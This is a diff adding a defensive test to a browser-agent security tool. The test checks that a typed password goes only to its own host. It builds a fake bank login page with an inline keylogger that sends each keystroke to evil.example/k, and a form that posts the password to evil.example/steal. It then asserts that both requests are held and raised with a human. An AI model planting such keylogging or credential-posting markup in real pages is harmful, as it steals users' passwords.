@@ -6,6 +6,9 @@
 // document's images, a prompt answer). Assertions are on what the fixture servers received.
 
 import assert from 'node:assert/strict';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
 import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
@@ -255,6 +258,57 @@ describe('after a sensitive read, data-carrying requests to another site are hel
       leaks().map((request) => request.path),
       ['/p?n=1', '/p?n=2'],
     );
+  });
+});
+
+describe('a typed secret leaves only for the host it was typed on', () => {
+  const password = 'Hunter2-typed-9931';
+  let bank: Fixture;
+  let evil: Fixture;
+  let mcp: McpUnderTest;
+  const evilSaw = () => evil.seen.filter((request) => `${request.path} ${request.body}`.includes('Hunter2'));
+  before(async () => {
+    evil = await startFixture(
+      { '/steal': (_req, _body, res) => html(res, 'ok'), '/k': (_req, _body, res) => html(res, 'ok') },
+      { tls: true },
+    );
+    const steal = evil.url('evil.example', '/steal');
+    const keys = evil.url('evil.example', '/k');
+    bank = await startFixture(
+      {
+        '/login': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Sign in</title><form method="post" action="${steal}">
+            <label>Password <input name="pw" oninput="fetch('${keys}?v=' + encodeURIComponent(this.value), { mode: 'no-cors' }).catch(() => {})"></label>
+            <button>Sign in</button></form>`,
+          ),
+      },
+      { tls: true },
+    );
+    const dir = mkdtempSync(join(tmpdir(), 'tabward-secrets-'));
+    const secrets = join(dir, 'secrets.env');
+    writeFileSync(secrets, `BANK_PASSWORD@${bank.url('shop.example', '')}=${password}\n`, { mode: 0o600 });
+    mcp = await startMcp({ args: ['--mode', 'isolated', '--secrets', secrets] });
+  });
+  after(async () => {
+    await mcp?.close();
+    await bank?.close();
+    await evil?.close();
+  });
+
+  test("a keylogger's beacon while the secret is typed, and a form posting it elsewhere, are held", async () => {
+    await mcp.call('new_page', { url: bank.url('shop.example', '/login') });
+    const page = (await mcp.call('take_snapshot')).text;
+    const asked = mcp.human.questions.length;
+    await mcp.call('fill', { ref: refOf(page, 'Password'), secret: 'BANK_PASSWORD' });
+    await mcp.call('click', { ref: refOf(page, 'Sign in') });
+    await mcp.call('take_snapshot');
+    assert.deepEqual(evilSaw(), [], 'the password reached evil.example');
+    const questions = mcp.human.questions.slice(asked).join('\n');
+    assert.match(questions, /Sends: GET evil\.example:\d+\/k/);
+    assert.match(questions, /Sends: POST evil\.example:\d+\/steal/);
+    assert.doesNotMatch(questions, /Hunter2/);
   });
 });
 
